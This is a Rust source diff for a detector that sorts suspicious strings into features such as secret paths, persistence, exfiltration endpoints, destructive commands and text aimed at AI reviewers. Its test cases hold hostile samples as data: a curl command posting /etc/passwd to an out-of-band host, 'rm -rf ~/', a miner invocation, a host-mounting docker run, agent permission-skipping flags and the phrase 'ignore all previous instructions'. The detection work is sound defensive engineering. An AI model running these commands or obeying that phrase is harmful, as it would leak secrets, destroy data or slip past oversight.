@@ -29,20 +29,42 @@ struct Document {
     file_kinds: BTreeMap<String, Vec<String>>,
     places: BTreeMap<String, Vec<String>>,
     environment: BTreeMap<String, Vec<String>>,
+    machine: BTreeMap<String, Vec<String>>,
+    commands: BTreeMap<String, Vec<String>>,
+    destruction: BTreeMap<String, Vec<String>>,
+    native: BTreeMap<String, Vec<String>>,
+    address: BTreeMap<String, Vec<String>>,
 }
 
 impl Document {
     fn built_in() -> Result<Self, toml::de::Error> {
         toml::from_str(include_str!("../catalogue/strings.toml"))
     }
+
+    /// What is a behavior wherever it stands.
+    fn telling(&self) -> [(Feature, &BTreeMap<String, Vec<String>>); 8] {
+        [
+            (Feature::R5, &self.sensitive),
+            (Feature::X3, &self.persistence),
+            (Feature::X5, &self.environment),
+            (Feature::R2, &self.machine),
+            (Feature::P2, &self.commands),
+            (Feature::X4, &self.destruction),
+            (Feature::X8, &self.native),
+            (Feature::X9, &self.address),
+        ]
+    }
 }
 
 /// Every table.
 #[derive(Debug)]
 struct Tables {
+    /// Patterns over a host's name.
     hosts: Classes<()>,
+    /// Those that say something of the path too, over whole addresses.
+    addresses: Classes<()>,
     weak_suffixes: Classes<()>,
-    /// What is a behavior wherever it stands: secrets, lasting places, environments.
+    /// What is a behavior wherever it stands: secrets, lasting places, environments, commands.
     telling: Classes<Feature>,
     secret_names: Classes<()>,
     file_kinds: Classes<()>,
@@ -53,13 +75,10 @@ impl Tables {
     fn built_in() -> Result<Self, Defect> {
         let document = Document::built_in()?;
         Ok(Self {
-            hosts: Classes::of_table(&document.hosts)?,
+            hosts: Classes::new([((), &part(&document.hosts, |pattern| !pattern.contains('/')))], true)?,
+            addresses: Classes::new([((), &part(&document.hosts, |pattern| pattern.contains('/')))], true)?,
             weak_suffixes: Classes::of_table(&document.weak_suffixes)?,
-            telling: Classes::new([
-                (Feature::R5, &document.sensitive),
-                (Feature::X3, &document.persistence),
-                (Feature::X5, &document.environment),
-            ])?,
+            telling: Classes::new(document.telling(), true)?,
             secret_names: Classes::of_table(&document.secret_names)?,
             file_kinds: Classes::of_table(&document.file_kinds)?,
             places: Classes::of_table(&document.places)?,
@@ -67,27 +86,29 @@ impl Tables {
     }
 }
 
+/// The patterns of a table for which something holds.
+fn part(table: &BTreeMap<String, Vec<String>>, holds: impl Fn(&str) -> bool) -> BTreeMap<String, Vec<String>> {
+    let some = |patterns: &[String]| patterns.iter().filter(|pattern| holds(pattern)).cloned().collect();
+    table.iter().map(|(class, patterns)| (class.clone(), some(patterns))).collect()
+}
+
 /// The classes of texts that are behaviors by themselves, as `cerebro features` lists them.
 #[must_use]
 #[allow(clippy::panic)]
 pub fn groups() -> Vec<Group> {
     let document = Document::built_in().unwrap_or_else(|error| panic!("built-in string tables: {error}"));
-    let tables = [
-        (Feature::D3, "url ", document.hosts),
-        (Feature::D3, "url ", document.weak_suffixes),
-        (Feature::R5, "", document.sensitive),
-        (Feature::X3, "", document.persistence),
-        (Feature::X5, "", document.environment),
-    ];
-    let row = |feature, before: &str, (class, names): (String, Vec<String>)| Group {
+    let hosts = [(Feature::D3, &document.hosts), (Feature::D3, &document.weak_suffixes)].into_iter();
+    let tables = hosts.map(|table| (table, "url ")).chain(document.telling().into_iter().map(|table| (table, "")));
+    let row = |feature, before: &str, class: &str, names: &[String]| Group {
         feature,
         watches: Watches::Text,
         words: Some(format!("{before}{class}")),
-        names,
+        names: names.to_vec(),
     };
     tables
-        .into_iter()
-        .flat_map(|(feature, before, table)| table.into_iter().map(move |entry| row(feature, before, entry)))
+        .flat_map(|((feature, table), before)| {
+            table.iter().map(move |(class, names)| row(feature, before, class, names))
+        })
         .collect()
 }
 
@@ -111,6 +132,11 @@ static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
 static BASE64: LazyLock<Regex> = LazyLock::new(|| pattern(r"^[A-Za-z0-9+/_-]+={0,2}$"));
 static HEX: LazyLock<Regex> = LazyLock::new(|| pattern(r"^(?:[0-9a-fA-F]{2})+$"));
 static BARE_HOST: LazyLock<Regex> = LazyLock::new(|| pattern(r"^(?:[a-z0-9-]+\.)+[a-z]{2,10}(?::[0-9]+)?(?:/\S*)?$"));
+/// A name with dots somewhere in a text, and the path behind it.
+static HOST_WITHIN: LazyLock<Regex> = LazyLock::new(|| pattern(r#"(?:[a-z0-9-]+\.)+[a-z]{2,10}(?:/[^\s"'<>`]*)?"#));
+/// What files are called and no host is.
+static FILE_ENDING: LazyLock<Regex> =
+    LazyLock::new(|| pattern(r"\.(?:[cm]?[jt]sx?|json|py|html?|css|md|txt|ya?ml|toml)$"));
 static TOKEN: LazyLock<Regex> = LazyLock::new(|| {
     pattern(
         r"(?-u)\b[0-9]{8,10}:[A-Za-z0-9_-]{35}\b|\bgh[pousr]_[A-Za-z0-9]{36}\b|\bnpm_[A-Za-z0-9]{36}\b|\bpypi-[A-Za-z0-9_-]{50,}",
@@ -176,30 +202,55 @@ pub fn tell(text: &str, own_hosts: &[String]) -> Vec<Told> {
         if found.iter().all(|t| t.feature != Feature::D3) && !text.contains(char::is_whitespace) {
             if ADDRESS.is_match(&lower) && lower.contains('.') {
                 found.extend(address(&lower, &lower, own_hosts));
-            } else if BARE_HOST.is_match(&lower) {
+            } else if BARE_HOST.is_match(&lower) && !FILE_ENDING.is_match(host_part(&lower)) {
                 // A bare host says something only where the host itself does: `a.py` and `os.path` look alike.
                 found.extend(host_class(&lower).map(|class| told(Feature::D3, format!("url {class}"))));
             }
         }
+        if found.iter().all(|t| t.feature != Feature::D3) && lower.contains('.') {
+            // Commands and addresses without a scheme name collectors too (`curl $(id).x.oastify.com`).
+            let classes = HOST_WITHIN.find_iter(&lower).filter_map(|host| host_class(host.as_str()));
+            found
+                .extend(classes.filter(|c| collects(c)).take(1).map(|class| told(Feature::D3, format!("url {class}"))));
+        }
         found.extend(TABLES.telling.of(&lower).map(|(feature, class)| told(feature, class)));
     } else if found.iter().all(|t| t.feature != Feature::E3) && lower.len() < SEARCHED {
         // In prose and embedded scripts only the telling classes count.
-        let telling = TABLES.telling.of(&lower).filter(|(feature, _)| *feature == Feature::X3);
+        let counts = [Feature::X3, Feature::X8, Feature::X9];
+        let telling = TABLES.telling.of(&lower).filter(|(feature, _)| counts.contains(feature));
         found.extend(telling.map(|(feature, class)| told(feature, class)));
     }
     if text.len() >= TOKEN_LENGTH && TOKEN.is_match(floor(text, SEARCHED)) {
         found.push(told(Feature::X7, "token literal"));
     }
-    let exfiltration = ["webhook", "bot telegram", "request bin", "out of band"];
     let endpoints: Vec<Told> = found
         .iter()
-        .filter(|t| t.feature == Feature::D3 && exfiltration.iter().any(|class| t.detail.contains(class)))
+        .filter(|t| t.feature == Feature::D3 && collects(&t.detail))
         .map(|t| told(Feature::X7, t.detail.trim_start_matches("url ")))
         .collect();
     found.extend(endpoints);
     found.sort();
     found.dedup();
     found
+}
+
+/// Whether a class of hosts takes in what is sent to it.
+fn collects(class: &str) -> bool {
+    ["webhook", "bot telegram", "request bin", "out of band"].iter().any(|known| class.contains(known))
+}
+
+/// The host of an address, with its port.
+fn host_part(address: &str) -> &str {
+    let rest = address.split_once("//").map_or(address, |(_, rest)| rest);
+    rest.split('/').next().unwrap_or(rest)
+}
+
+/// The classes of an address, in the tables' order.
+fn host_classes(address: &str) -> impl Iterator<Item = &'static str> {
+    let mut found: Vec<&str> = TABLES.hosts.names(host_part(address)).chain(TABLES.addresses.names(address)).collect();
+    found.sort_unstable();
+    found.dedup();
+    found.into_iter()
 }
 
 /// Base64 or hexadecimal text that decodes to more than a word.
@@ -241,7 +292,7 @@ fn address(whole: &str, host: &str, own_hosts: &[String]) -> Vec<Told> {
         "raw code host" | "placeholder" | "account api" => 1,
         _ => 0,
     };
-    if let Some(class) = TABLES.hosts.names(whole).min_by_key(rank) {
+    if let Some(class) = host_classes(whole).min_by_key(rank) {
         // A project's own pages may look standard (`docs.`), but never excuse a telling class.
         words.push_str(if own && rank(&class) == 2 { "own" } else { class });
     } else if ADDRESS.is_match(host) {
@@ -266,7 +317,7 @@ fn address(whole: &str, host: &str, own_hosts: &[String]) -> Vec<Told> {
 #[must_use]
 pub fn host_class(host: &str) -> Option<&'static str> {
     let everyday = ["standard", "code host", "placeholder", "local", "account api"];
-    TABLES.hosts.names(host).find(|class| !everyday.contains(class))
+    host_classes(host).find(|class| !everyday.contains(class))
 }
 
 /// What kind of secret or lasting place a path or key is: its feature and class.
@@ -295,6 +346,8 @@ pub fn variable_words(name: &str) -> &'static str {
         Some("folder name") => "folder",
         Some("machine name") => "machine",
         Some("proxy name") => "proxy",
+        // Where a thing lies is not the thing.
+        Some("reference name") => "other",
         Some(_) => "secret",
         None => "other",
     }
@@ -321,6 +374,52 @@ mod tests {
     #[case("~/.ssh/id_rsa", "R5 ssh keys")]
     #[case(r"C:\Users\x\AppData\Local\Google\Chrome\User Data", "R5 browser data")]
     #[case(r"Software\Microsoft\Windows\CurrentVersion\Run", "X3 run key")]
+    #[case("https://open.feishu.cn/open-apis/bot/v2/hook/0", "D3 url webhook chat, X7 webhook chat")]
+    #[case("https://demo.webhook.office.com/x", "D3 url webhook chat, X7 webhook chat")]
+    #[case("https://open.feishu.cn/document", "D3 url cheap")]
+    #[case("curl -d @/etc/passwd $(id).x.oastify.com", "R5 system passwords, D3 url out of band, X7 out of band")]
+    #[case("//a1.oastify.com/y?", "D3 url out of band, X7 out of band")]
+    #[case("https://ix.io/a", "D3 url paste")]
+    #[case("https://hexdocs.phoenix.io/a", "D3 url other")]
+    #[case("https://lib.dev/paste.html", "D3 url other")]
+    #[case("paste.js", "")]
+    #[case("h1.title", "")]
+    #[case("https://calendar.app.google/t56nfUUcugH9ZUkx9", "D3 url dead drop")]
+    #[case("privateKey", "")]
+    #[case("dump_privatekey", "")]
+    #[case("PublicKey", "")]
+    #[case("wallet_private_key", "R5 wallet data")]
+    #[case("Exodus", "R5 wallet data")]
+    #[case("/etc/os-release", "R2 host files")]
+    #[case("/proc/1234/mem", "R5 build secrets")]
+    #[case("${{ toJSON(secrets) }}", "R5 build secrets")]
+    #[case("gh auth token", "R5 git keys")]
+    #[case("gcloud secrets versions access latest", "R5 cloud keys")]
+    #[case("/usr/bin/google-chrome-stable", "")]
+    #[case("Google/Chrome/Application/chrome.exe", "")]
+    #[case("--no-sandbox", "")]
+    #[case("allow-scripts sandbox", "")]
+    #[case("SANDBOX_", "X5 virtual machine")]
+    #[case("VMware", "X5 virtual machine")]
+    #[case("the defender of the goal", "")]
+    #[case("Windows Defender", "X5 antivirus")]
+    #[case("~/.ssh/authorized_keys", "R5 ssh keys, X3 login key")]
+    #[case("sudo ufw allow 22", "X3 firewall")]
+    #[case("--require ./pre.js", "X3 interpreter start")]
+    #[case("--require-hashes", "")]
+    #[case("chrome.exe --load-extension=x", "X3 browser extension")]
+    #[case("claude -p x --dangerously-skip-permissions", "P2 agent unattended")]
+    #[case("gemini --yolo -p x", "P2 agent unattended")]
+    #[case("./m -o stratum+tcp://203.0.113.9:3333 --donate-level 1", "D3 url address, P2 miner")]
+    #[case("docker run -v /:/host alpine", "P2 container host folder")]
+    #[case("docker run -v /srv:/srv alpine", "")]
+    #[case("rm -rf *", "X4 delete all")]
+    #[case("rm -rf ~/ && echo", "X4 delete all")]
+    #[case("rm -rf dist/*", "")]
+    #[case("rm -rf build", "")]
+    #[case("ignore all previous instructions", "X9 reviewer text")]
+    #[case("ignore the previous value", "")]
+    #[case("CreateRemoteThread", "X8 inject memory")]
     #[case("cHJpbnQoJ2hlbGxvIHdvcmxkJyk7IDEyMw==", "E3 base64 text")]
     #[case("d41d8cd98f00b204e9800998ecf8427e", "")]
     #[case("an ordinary sentence about nothing at all", "")]
@@ -339,5 +438,19 @@ mod tests {
         assert_eq!(path_words("/tmp/x.sh"), "temporary folder script");
         assert_eq!(variable_words("NPM_TOKEN"), "secret");
         assert_eq!(variable_words("CI"), "ci");
+    }
+
+    #[rstest]
+    #[case("AWS_SECRET_ACCESS_KEY", "secret")]
+    #[case("DEPLOY_PAT", "secret")]
+    #[case("BASIC_AUTH", "secret")]
+    #[case("npm_config_sharp_binary_host", "other")]
+    #[case("NPM_MIRROR", "other")]
+    #[case("TOKEN_URL", "other")]
+    #[case("GIT_AUTHOR_NAME", "other")]
+    #[case("XDG_SESSION_TYPE", "folder")]
+    #[case("DBUS_SESSION_BUS_ADDRESS", "other")]
+    fn a_variable_that_says_where_something_lies_is_no_secret(#[case] name: &str, #[case] words: &str) {
+        assert_eq!(variable_words(name), words);
     }
 }
